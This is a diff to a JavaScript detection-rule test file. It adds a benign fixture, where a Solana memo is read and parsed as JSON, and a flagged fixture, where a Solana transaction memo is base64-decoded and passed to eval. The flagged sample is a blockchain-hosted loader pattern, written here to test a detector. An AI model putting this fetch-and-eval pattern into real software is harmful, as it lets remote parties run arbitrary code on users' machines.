@@ -38,6 +38,11 @@ ruleTest(rule, {
       file: 'scripts/report.js',
       code: "const { spawn } = require('child_process');\nfetch('https://api.example.com/stats').then((r) => r.text()).then((t) => spawn(process.execPath, ['scripts/print.js', t]));\n",
     },
+    {
+      name: 'dApp shows a Solana memo (RPC read, no code sink on it)',
+      file: 'src/memo.js',
+      code: "const { Connection } = require('@solana/web3.js');\nconst conn = new Connection('https://api.mainnet-beta.solana.com');\nexports.memo = async (sig) => {\n  const tx = await conn.getParsedTransaction(sig);\n  return JSON.parse(Buffer.from(tx.meta.logMessages[0], 'base64').toString());\n};\nexports.fmt = new Function('x', 'return x.toFixed(2)');\n",
+    },
   ],
   flagged: [
     {
@@ -152,6 +157,20 @@ ruleTest(rule, {
         '})();',
       ].join('\n'),
       findings: [{ line: 5, severity: 'critical', decoded: 'https://cfg.example.invalid/m.js', message: /requireFromString\(\) \(require-from-string\)/ }],
+    },
+    {
+      name: 'Solana getParsedTransaction memo decoded and evaled (the tx signature is not a URL)',
+      file: 'index.js',
+      code: [
+        "const { Connection } = require('@solana/web3.js');",
+        "const conn = new Connection('https://api.mainnet-beta.solana.com');",
+        '(async () => {',
+        "  const tx = await conn.getParsedTransaction('5'.repeat(88), { maxSupportedTransactionVersion: 0 });",
+        "  const memo = tx.transaction.message.instructions.find((i) => i.program === 'spl-memo').parsed;",
+        "  eval(Buffer.from(memo, 'base64').toString());",
+        '})();',
+      ].join('\n'),
+      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /conn\.getParsedTransaction \(blockchain RPC\)/ }],
     },
   ],
 });
